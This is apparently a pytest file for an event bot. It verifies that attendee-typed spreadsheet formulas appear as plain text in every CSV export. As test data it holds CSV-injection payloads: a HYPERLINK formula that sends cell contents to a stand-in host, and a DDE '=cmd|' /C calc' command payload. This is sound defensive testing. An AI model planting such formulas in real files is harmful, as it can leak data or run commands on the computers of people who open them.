"""Attendees who type spreadsheet formulas: every CSV an organiser gets (the /export buttons,
/waitlist, the CLI exports and the invite list) shows them as text, never as a formula."""

from __future__ import annotations

import asyncio
from datetime import UTC, datetime

from bot.__main__ import main
from bot.event_file import load_event_file
from core.event.loading import load_event
from core.meetings.messages import calendar_for
from tests.support.event_survey import OPENS, SURVEY
from tests.support.journeys import EXAMPLE, onboard, onboard_korean
from tests.support.spreadsheets import assert_csv_safe

ORG = 9000
LINK = '=HYPERLINK("http://x/?"&B2,"hi")'
#: Typed in the chat: each one would run in Excel if written as is.
TYPED = {101: LINK, 102: "+1", 103: "-2", 104: "@SUM(A1)"}
#: The chat trims these (leading whitespace), so they are stored directly, as any other way in
#: (an older version, a database edit) could leave them.
STORED = {105: "\tx", 106: "\rx"}
HOSTILE = {**TYPED, **STORED}
KOREAN = 107
SLOT = "morning@20250410T0820"
SESSION = "study-visit-delft"
EXPORT_BUTTONS = {
    "attendees": "Attendees",
    "meetings": "Meetings",
    "consultations": "Consultations",
    "waitlists": "Waitlists",
    "broadcasts": "Broadcast reports",
    "survey": "Survey answers",
    "outcomes": "Meeting outcomes",
}
REGISTRATIONS = "name,email,organisation,country\n" + "".join(
    f'"{name.replace(chr(34), chr(34) * 2)}",p{uid}@example.org,"-1 Lab",Germany\n'
    for uid, name in TYPED.items()
)


async def hostile_event(bot) -> None:
    """Everything an attendee writes, written as formulas, through the ways people really use."""
    event = load_event_file(EXAMPLE)
    await load_event(bot.uow, event, force=False, now=bot.clock.now(), ics=calendar_for(event.name))
    for uid, name in TYPED.items():
        await onboard(
            bot.client(uid, f"U{uid}"),
            full_name=name,
            organisation="=1+1 Lab",
            offers="-2 dB noise floor; =cmd|' /C calc'!A0",
            seeks='@everyone\n=HYPERLINK("http://x")',
            bio="+82 10 1234 5678",
        )
    for uid, name in STORED.items():
        await onboard(bot.client(uid, f"U{uid}"), full_name=name, organisation=name)
        async with bot.uow() as uow:
            profile = await uow.profiles.get(uid)
            assert profile.full_name == "x"  # what the chat made of it
            profile.full_name = profile.organisation = name
            await uow.profiles.save(profile)
            await uow.commit()
    korean = bot.client(KOREAN, "지우", language_code="ko")
    await korean.command("start")
    await korean.press("동의합니다")
    await onboard_korean(korean)

    now, meetings = bot.clock.now(), bot.services.meetings
    for a, b in ((101, 102), (103, 104)):
        request = await meetings.requests.request(a, b, [SLOT], "=1+1", now=now)
        await meetings.requests.accept(request.id, b, SLOT, now=now)
    (_desk, desk_slots), *_ = await meetings.consultations.desks(now=now)
    await meetings.consultations.consult(105, desk_slots[0].key, now=now)
    for uid in HOSTILE:
        await bot.services.programme.follow(uid, SESSION, now=now)

    organiser = bot.client(ORG, "Org")
    await organiser.command("broadcast")
    await organiser.send("@channel =1+1")
    await organiser.press("Everyone")
    await organiser.press("📣 Send to")
    await bot.dispatch()
    await organiser.send_document("people.csv", REGISTRATIONS.encode(), mime_type="text/csv")
    await organiser.press("✅ Import 4 attendees")

    bot.clock.set(datetime(2025, 4, 10, 8, 50, tzinfo=UTC))  # the meetings are over
    await bot.dispatch()
    await bot.dispatch()
    for uid in (101, 102):
        user = bot.client(uid, f"U{uid}")
        await user.press("Cooperation possible")
        await user.press("💬 Add a comment (only organisers see it)")
        await user.send('=HYPERLINK("http://x/?"&A1,"more")' if uid == 101 else "-1 point")
    bot.clock.set(OPENS)
    async with bot.uow() as uow:
        await uow.survey.set_definition(SURVEY)
        await uow.commit()
    for uid in (101, 103):
        await bot.services.feedback.survey.answer(uid, "better", "@SUM(1+1)", now=OPENS)


def named(rows: list[list[str]], column: str) -> list[str]:
    return [row[rows[0].index(column)] for row in rows[1:]]


async def test_every_export_shows_formulas_as_text(make_bot, tmp_path):
    bot = await make_bot(organisers={"telegram_ids": [ORG]})
    await hostile_event(bot)
    neutral = {f"'{name}" for name in HOSTILE.values()}

    organiser = bot.client(ORG, "Org")
    tables = {}
    for kind, label in EXPORT_BUTTONS.items():
        await organiser.command("export")
        await organiser.press(label)
        document = organiser.last_document()
        assert document.name == f"{kind}.csv"
        tables[kind] = assert_csv_safe(document.data)
        assert len(tables[kind]) > 1, kind  # the hostile text is in every table

    attendees = tables["attendees"]
    assert neutral <= set(named(attendees, "name"))
    assert "김지우" in named(attendees, "name") and "한국과학기술연구원" in named(
        attendees, "organisation"
    )
    row = dict(zip(attendees[0], attendees[1], strict=True))
    assert row["organisation"] == "'=1+1 Lab" and row["bio"] == "'+82 10 1234 5678"
    assert row["offers"] == "'-2 dB noise floor; '=cmd|' /C calc'!A0"
    assert row["seeks"] == "'@everyone\n'=HYPERLINK(\"http://x\")"
    assert set(named(tables["meetings"], "a_name")) == {f"'{LINK}", "'-2"}
    assert named(tables["consultations"], "name") == ["'\tx"]
    assert set(named(tables["waitlists"], "name")) == neutral
    assert named(tables["broadcasts"], "text") == ["'@channel =1+1"]
    assert named(tables["survey"], "answer") == ["'@SUM(1+1)"] * 2
    outcomes = tables["outcomes"]
    assert sorted(named(outcomes, "comment")) == [
        "'-1 point",
        '\'=HYPERLINK("http://x/?"&A1,"more")',
    ]
    assert set(named(outcomes, "outcome")) == {"Cooperation possible"}

    await organiser.command("waitlist", SESSION)
    waitlist = assert_csv_safe(organiser.last_document().data)
    assert waitlist[0] == ["position", "name", "status", "telegram_id"]
    assert set(named(waitlist, "name")) == neutral

    config = tmp_path / "config.toml"
    config.write_text(
        f'[database]\nurl = "{bot.settings.database.url}"\n[telegram]\nusername = "forum_bot"\n',
        encoding="utf-8",
    )
    for kind in EXPORT_BUTTONS:
        out = tmp_path / f"{kind}.csv"
        args = ["--config", str(config), "export", kind, "--out", str(out)]
        assert await asyncio.to_thread(main, args) == 0
        assert assert_csv_safe(await asyncio.to_thread(out.read_bytes)) == tables[kind], kind
    out = tmp_path / "links.csv"
    args = ["--config", str(config), "invites", "export", "--out", str(out)]
    assert await asyncio.to_thread(main, args) == 0
    invites = assert_csv_safe(await asyncio.to_thread(out.read_bytes))
    assert set(named(invites, "name")) == {f"'{name}" for name in TYPED.values()}
